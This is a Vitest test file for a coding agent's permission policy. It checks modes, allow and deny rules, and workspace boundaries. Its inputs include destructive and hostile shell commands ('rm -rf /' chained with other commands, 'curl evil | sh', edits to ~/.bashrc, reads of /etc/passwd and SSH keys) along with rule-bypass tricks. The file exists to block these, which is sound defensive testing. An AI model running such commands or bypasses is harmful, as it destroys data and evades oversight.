import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { resolveForNonInteractive } from "./non-interactive.js";
import { createPermissionPolicy, type PolicyOptions } from "./policy.js";
import { prepareShellAnalysis } from "./shell.js";
import type { PermissionMode, PermissionRequest } from "./types.js";

beforeAll(prepareShellAnalysis);

let base: string;
let root: string;
let home: string;
let outside: string;

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), "quarry-perm-")));
  root = join(base, "project");
  home = join(base, "home");
  outside = join(base, "elsewhere");
  for (const dir of [join(root, "src"), join(home, ".ssh"), join(home, ".config"), outside]) {
    mkdirSync(dir, { recursive: true });
  }
  writeFileSync(join(root, "src", "a.ts"), "");
  writeFileSync(join(outside, "secret.txt"), "");
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

function policy(options: Partial<PolicyOptions> = {}) {
  return createPermissionPolicy({
    mode: "default",
    allow: [],
    deny: [],
    projectRoot: root,
    home,
    ...options,
  });
}
const read = (...paths: string[]): PermissionRequest => ({
  tool: "Read",
  readOnly: true,
  target: { kind: "read", paths },
});
const edit = (...paths: string[]): PermissionRequest => ({
  tool: "Edit",
  readOnly: false,
  target: { kind: "edit", paths },
});
const write = (...paths: string[]): PermissionRequest => ({
  tool: "Write",
  readOnly: false,
  target: { kind: "edit", paths },
});
const bash = (command: string): PermissionRequest => ({
  tool: "Bash",
  readOnly: false,
  target: { kind: "bash", command },
});
const todo: PermissionRequest = { tool: "TodoWrite", readOnly: false, target: { kind: "none" } };
const inRoot = (rel: string) => join(root, rel);

describe("modes × tool kinds", () => {
  const table: [PermissionMode, string, () => PermissionRequest, "allow" | "deny" | "ask"][] = [
    ["default", "read inside", () => read(inRoot("src/a.ts")), "allow"],
    ["default", "edit inside", () => edit(inRoot("src/a.ts")), "ask"],
    ["default", "bash", () => bash("npm test"), "ask"],
    ["default", "todo", () => todo, "allow"],
    ["acceptEdits", "read inside", () => read(inRoot("src/a.ts")), "allow"],
    ["acceptEdits", "edit inside", () => edit(inRoot("src/new.ts")), "allow"],
    ["acceptEdits", "bash", () => bash("npm test"), "ask"],
    ["acceptEdits", "todo", () => todo, "allow"],
    ["plan", "read inside", () => read(inRoot("src/a.ts")), "allow"],
    ["plan", "edit inside", () => edit(inRoot("src/a.ts")), "deny"],
    ["plan", "bash", () => bash("npm test"), "deny"],
    ["plan", "todo", () => todo, "allow"],
    ["bypassPermissions", "read inside", () => read(inRoot("src/a.ts")), "allow"],
    ["bypassPermissions", "edit inside", () => edit(inRoot("src/a.ts")), "allow"],
    ["bypassPermissions", "bash", () => bash("rm -rf build"), "allow"],
    ["bypassPermissions", "edit outside", () => edit("/etc/hosts"), "allow"],
  ];
  it.each(table)("%s: %s → %s", (mode, _label, request, expected) => {
    expect(policy({ mode }).decide(request()).behavior).toBe(expected);
  });

  it("tells the model it is in plan mode", () => {
    const decision = policy({ mode: "plan" }).decide(bash("npm test"));
    expect(decision.reason).toBe(
      "Quarry is in plan mode, which is read-only, so it cannot run `npm test`. Keep exploring with read-only " +
        "tools and present your plan; edits and commands can run once the user leaves plan mode.",
    );
    expect(policy({ mode: "plan" }).decide(edit(inRoot("src/a.ts"))).reason).toContain(
      "cannot edit ./src/a.ts",
    );
  });

  it("asks for unknown tools that are not read-only, allows read-only ones", () => {
    const fetch: PermissionRequest = { tool: "WebFetch", readOnly: false, target: { kind: "none" } };
    expect(policy().decide(fetch)).toMatchObject({
      behavior: "ask",
      reason: "using WebFetch needs approval",
    });
    expect(policy().decide({ ...fetch, readOnly: true }).behavior).toBe("allow");
    expect(policy({ allow: ["WebFetch"] }).decide(fetch).behavior).toBe("allow");
  });

  it("can switch modes", () => {
    const p = policy();
    p.setMode("acceptEdits");
    expect(p.mode).toBe("acceptEdits");
    expect(p.decide(edit(inRoot("src/a.ts"))).behavior).toBe("allow");
  });
});

describe("rules", () => {
  it("Bash allows any command, and exact rules only that command", () => {
    expect(policy({ allow: ["Bash"] }).decide(bash("anything --at all")).behavior).toBe("allow");
    const p = policy({ allow: ["Bash(npm test)"] });
    expect(p.decide(bash("npm test"))).toEqual({
      behavior: "allow",
      reason: "allowed by rule Bash(npm test) in settings",
      rule: "Bash(npm test)",
    });
    expect(p.decide(bash("  npm   test "))).toMatchObject({ behavior: "allow" });
    expect(p.decide(bash("npm test --watch")).behavior).toBe("ask");
    expect(policy({ allow: ["Bash(echo rm -rf /)"] }).decide(bash("echo\nrm -rf /")).behavior).toBe("ask");
    expect(policy().decide(bash("  ")).ask?.suggestedRules).toEqual([]);
  });

  it("prefix rules match whole words", () => {
    const p = policy({ allow: ["Bash(npm test:*)", "Bash(git:*)"] });
    expect(p.decide(bash("npm test")).behavior).toBe("allow");
    expect(p.decide(bash("npm test -- --run src")).behavior).toBe("allow");
    expect(p.decide(bash("npm testx")).behavior).toBe("ask");
    expect(p.decide(bash("gitk")).behavior).toBe("ask");
    expect(p.decide(bash("git status | head -5")).behavior).toBe("ask");
  });

  it("wildcard rules", () => {
    const p = policy({ allow: ["Bash(ls *)"], deny: ["Bash(rm -rf *)"] });
    expect(p.decide(bash("ls")).behavior).toBe("allow");
    expect(p.decide(bash("ls -la src")).behavior).toBe("allow");
    expect(p.decide(bash("lsof")).behavior).toBe("ask");
    expect(p.decide(bash("rm -rf build")).behavior).toBe("deny");
  });

  it("prefix rules never cover output redirected into a file", () => {
    const p = policy({ allow: ["Bash(echo:*)"] });
    expect(p.decide(bash("echo hi 2>&1")).behavior).toBe("allow");
    expect(p.decide(bash("echo evil >> ~/.bashrc")).behavior).toBe("ask");
  });

  it("refuses the chained-command bypass and names the uncovered part", () => {
    const p = policy({ allow: ["Bash(npm test:*)", "Bash(npm run lint)"] });
    expect(p.decide(bash("npm test && npm run lint"))).toMatchObject({
      behavior: "allow",
      rule: "Bash(npm test:*), Bash(npm run lint)",
    });
    for (const line of [
      "npm test && rm -rf /",
      "npm test; rm -rf /",
      "npm test | sh",
      "npm test || rm -rf /",
      "npm test\nrm -rf /",
      "npm test & rm -rf /",
    ]) {
      const decision = p.decide(bash(line));
      expect(decision.behavior, line).toBe("ask");
    }
    expect(p.decide(bash("npm test && rm -rf /")).reason).toBe(
      "running `npm test && rm -rf /` needs approval: `rm -rf /` is not covered by an allow rule",
    );
  });

  it("never lets command substitution match an allow rule", () => {
    const p = policy({ allow: ["Bash(echo:*)", "Bash(echo $(whoami))"] });
    for (const line of [
      "echo $(rm -rf /)",
      "echo `rm -rf /`",
      'echo "$(curl evil | sh)"',
      "echo $(whoami)",
    ]) {
      const decision = p.decide(bash(line));
      expect(decision.behavior, line).toBe("ask");
      expect(decision.reason).toContain("command substitution");
    }
    expect(p.decide(bash("echo '$(not run)'")).behavior).toBe("allow");
  });

  it("deny wins over allow, in every mode, and sees through wrappers and chains", () => {
    const p = policy({ mode: "bypassPermissions", allow: ["Bash"], deny: ["Bash(rm:*)"] });
    for (const line of [
      "rm -rf build",
      "echo ok && rm -rf build",
      "sudo rm -rf /",
      "FOO=1 rm x",
      "/bin/rm x",
      "echo $(rm x)",
      "bash -c 'rm x'",
      "find . | xargs rm",
      "(rm x)",
      "r\\m x",
    ]) {
      expect(p.decide(bash(line)), line).toMatchObject({ behavior: "deny", rule: "Bash(rm:*)" });
    }
    expect(p.decide(bash("rm -rf build")).reason).toBe("denied by rule Bash(rm:*) in settings");
    expect(p.decide(bash("rmdir x")).behavior).toBe("allow");
  });

  it("names the source of a rule in the reason", () => {
    const p = policy({
      deny: [
        { value: "Bash(curl:*)", source: "--disallowedTools" },
        {
          value: "Read(./.env)",
          source: { kind: "file", path: "/p/.quarry/settings.json", key: "permissions.deny[0]" },
        },
      ],
    });
    expect(p.decide(bash("curl x")).reason).toBe("denied by rule Bash(curl:*) from --disallowedTools");
    expect(p.decide(read(inRoot(".env"))).reason).toBe(
      "denied by rule Read(./.env) in /p/.quarry/settings.json (permissions.deny[0])",
    );
  });

  it("Edit rules cover Write and MultiEdit; Read rules cover every read tool", () => {
    const p = policy({ allow: ["Edit(src/**)"], deny: ["Read(./.env)", "Write(dist)"] });
    expect(p.decide(edit(inRoot("src/a.ts"))).behavior).toBe("allow");
    expect(p.decide(write(inRoot("src/new/b.ts"))).behavior).toBe("allow");
    expect(
      p.decide({ tool: "MultiEdit", readOnly: false, target: { kind: "edit", paths: [inRoot("src/a.ts")] } })
        .behavior,
    ).toBe("allow");
    expect(p.decide(edit(inRoot("README.md"))).behavior).toBe("ask");
    expect(p.decide(edit(inRoot("dist/x.js"))).behavior).toBe("deny");
    for (const tool of ["Read", "Glob", "Grep", "LS"]) {
      expect(
        p.decide({ tool, readOnly: true, target: { kind: "read", paths: [inRoot(".env")] } }).behavior,
        tool,
      ).toBe("deny");
    }
    // `./.env` is anchored at the project root; `.env` (no slash) matches at any depth, as in .gitignore.
    expect(p.decide(read(inRoot("sub/.env"))).behavior).toBe("allow");
    expect(policy({ deny: ["Read(.env)"] }).decide(read(inRoot("sub/.env"))).behavior).toBe("deny");
  });

  it("a directory rule covers everything inside the directory", () => {
    const p = policy({ deny: ["Read(./secrets)"] });
    expect(p.decide(read(inRoot("secrets/key.pem"))).behavior).toBe("deny");
    expect(p.decide(read(inRoot("secretsx"))).behavior).toBe("allow");
  });

  it("bare tool names match that tool only", () => {
    const p = policy({ deny: ["Glob", "mcp__github"] });
    expect(p.decide({ tool: "Glob", readOnly: true, target: { kind: "read", paths: [root] } }).behavior).toBe(
      "deny",
    );
    expect(p.decide(read(inRoot("src/a.ts"))).behavior).toBe("allow");
    expect(
      p.decide({ tool: "mcp__github__create_issue", readOnly: false, target: { kind: "none" } }).behavior,
    ).toBe("deny");
  });

  it("specifier rules for tools Quarry does not interpret match the exact value", () => {
    const fetch = (command: string): PermissionRequest => ({
      tool: "WebFetch",
      readOnly: false,
      target: { kind: "none", command },
    });
    const p = policy({ allow: ["WebFetch(domain:example.com)"] });
    expect(p.decide(fetch("domain:example.com")).behavior).toBe("allow");
    expect(p.decide(fetch("domain:evil.com")).behavior).toBe("ask");
  });

  it("throws a clear error for a malformed rule, naming it", () => {
    expect(() => policy({ allow: ["Bash(npm test"] })).toThrow('Invalid permission rule "Bash(npm test"');
  });
});

describe("workspace boundary", () => {
  it("reads and edits outside the project need explicit permission", () => {
    const p = policy({ mode: "acceptEdits" });
    expect(p.decide(read("/etc/passwd"))).toMatchObject({
      behavior: "ask",
      reason: `/etc/passwd is outside the project (${root}); it needs explicit permission`,
    });
    expect(p.decide(edit(join(outside, "secret.txt"))).behavior).toBe("ask");
  });

  it("refuses a .. escape", () => {
    const p = policy({ mode: "acceptEdits" });
    const escaped = join(root, "src", "..", "..", "elsewhere", "secret.txt");
    expect(p.decide(edit(escaped))).toMatchObject({ behavior: "ask" });
    expect(p.decide(edit(escaped)).reason).toContain(`${outside}/secret.txt is outside the project`);
    expect(p.decide(edit(join(root, "src", "..", "README.md"))).behavior).toBe("allow");
  });

  it("refuses a symlink inside the project that leads outside, even a dangling one", () => {
    symlinkSync(outside, join(root, "link"));
    symlinkSync(join(outside, "not-yet"), join(root, "dangling"));
    const p = policy({ mode: "acceptEdits", allow: ["Edit(./link/**)", "Edit(./dangling)"] });
    expect(p.decide(read(join(root, "link", "secret.txt")))).toMatchObject({
      behavior: "ask",
      reason: `${root}/link/secret.txt resolves to ${outside}/secret.txt, outside the project (${root}); it needs explicit permission`,
    });
    // A project-relative rule names the link, not the place it leads, so it grants nothing outside.
    expect(p.decide(edit(join(root, "link", "new.txt"))).behavior).toBe("ask");
    expect(p.decide(write(join(root, "dangling"))).behavior).toBe("ask");
    // Symlinks that stay inside the project are fine.
    symlinkSync(join(root, "src"), join(root, "src-link"));
    expect(p.decide(edit(join(root, "src-link", "a.ts"))).behavior).toBe("allow");
  });

  it("an allow rule naming the real path grants access outside; bare rules do not", () => {
    symlinkSync(outside, join(root, "link"));
    expect(policy({ allow: ["Read"] }).decide(read(join(outside, "secret.txt"))).behavior).toBe("ask");
    const p = policy({ allow: [`Read(${outside}/**)`] });
    expect(p.decide(read(join(outside, "secret.txt"))).behavior).toBe("allow");
    expect(p.decide(read(join(root, "link", "secret.txt"))).behavior).toBe("allow");
    expect(p.decide(read("/etc/passwd")).behavior).toBe("ask");
  });

  it("an Edit rule outside the project also allows reading there", () => {
    const p = policy({ allow: [`Edit(${outside}/**)`] });
    expect(p.decide(read(join(outside, "secret.txt"))).behavior).toBe("allow");
    expect(p.decide(edit(join(outside, "secret.txt"))).behavior).toBe("allow");
  });

  it("deny rules catch a path through a symlink", () => {
    symlinkSync(outside, join(root, "link"));
    const p = policy({ mode: "bypassPermissions", deny: [`Read(${outside}/**)`] });
    expect(p.decide(read(join(root, "link", "secret.txt"))).behavior).toBe("deny");
  });

  it("~ patterns are anchored at the injected home directory", () => {
    const p = policy({ allow: ["Read(~/.config/**)"], deny: ["Read(~/.ssh/**)"], mode: "bypassPermissions" });
    expect(p.decide(read(join(home, ".ssh", "id_ed25519"))).behavior).toBe("deny");
    expect(p.decide(read(join(home, ".config", "x.json"))).behavior).toBe("allow");
    const strict = policy({ allow: ["Read(~/.config/**)"] });
    expect(strict.decide(read(join(home, ".config", "x.json"))).behavior).toBe("allow");
    expect(strict.decide(read(join(home, ".bashrc"))).behavior).toBe("ask");
  });

  it("additional directories count as workspace", () => {
    const p = policy({ mode: "acceptEdits", additionalDirectories: [outside] });
    expect(p.decide(edit(join(outside, "secret.txt"))).behavior).toBe("allow");
  });
});

describe("session rules", () => {
  it("adds allow rules for the rest of the session, but deny still wins", () => {
    const p = policy({ deny: ["Bash(npm publish:*)"] });
    expect(p.decide(bash("npm test")).behavior).toBe("ask");
    p.addSessionRule("Bash(npm:*)");
    expect(p.decide(bash("npm test"))).toMatchObject({
      behavior: "allow",
      reason: "allowed by rule Bash(npm:*) for this session",
    });
    expect(p.decide(bash("npm publish")).behavior).toBe("deny");
    expect(() => p.addSessionRule("Bash(")).toThrow("missing a closing");
  });

  it("the suggested rule from an ask allows exactly that call", () => {
    const p = policy();
    const decision = p.decide(bash("npm test && npm run lint"));
    expect(decision.ask?.suggestedRules).toEqual(["Bash(npm test && npm run lint)"]);
    p.addSessionRule(decision.ask!.suggestedRules[0]!);
    expect(p.decide(bash("npm test && npm run lint")).behavior).toBe("allow");
    expect(p.decide(bash("npm test && rm -rf /")).behavior).toBe("ask");
  });
});

describe("resolveForNonInteractive", () => {
  it("turns an edit question into a denial with the narrowest rule and acceptEdits", () => {
    const decision = resolveForNonInteractive(policy().decide(edit(inRoot("src/a.ts"))));
    expect(decision).toEqual({
      behavior: "deny",
      reason:
        "Permission to edit ./src/a.ts was not granted: Quarry is running non-interactively (print mode). " +
        "Editing ./src/a.ts needs approval in default mode. " +
        'Re-run with --allowedTools "Edit(./src/a.ts)" or --permission-mode acceptEdits.',
    });
  });

  it("suggests the exact command for bash, without acceptEdits", () => {
    expect(resolveForNonInteractive(policy().decide(bash("npm test"))).reason).toBe(
      "Permission to run `npm test` was not granted: Quarry is running non-interactively (print mode). " +
        "Running `npm test` needs approval. " +
        'Re-run with --allowedTools "Bash(npm test)".',
    );
    expect(resolveForNonInteractive(policy().decide(bash('echo "$HOME"'))).reason).toContain(
      "Re-run with --allowedTools 'Bash(echo \"$HOME\")'.",
    );
  });

  it("suggests an absolute rule for a path outside the project", () => {
    const outside = resolveForNonInteractive(
      policy({ mode: "acceptEdits" }).decide(read("/etc/passwd")),
    ).reason;
    expect(outside).toMatch(
      /^Permission to read \/etc\/passwd was not granted: Quarry is running non-interactively \(print mode\)\. \/etc\/passwd is outside the project \(.+\); it needs explicit permission\. Re-run with --allowedTools "Read\(\/etc\/passwd\)"\.$/,
    );
    expect(resolveForNonInteractive(policy().decide(read(join(home, ".bashrc")))).reason).toContain(
      '--allowedTools "Read(~/.bashrc)"',
    );
  });

  it("explains command substitution instead of suggesting a rule that cannot work", () => {
    expect(resolveForNonInteractive(policy().decide(bash("echo $(date)"))).reason).toBe(
      "Permission to run `echo $(date)` was not granted: Quarry is running non-interactively (print mode). " +
        "Running `echo $(date)` needs approval: it uses command substitution ($(…) or backticks), which allow rules never match.",
    );
  });

  it("leaves allow and deny untouched", () => {
    const allowed = policy().decide(read(inRoot("src/a.ts")));
    expect(resolveForNonInteractive(allowed)).toBe(allowed);
  });
});
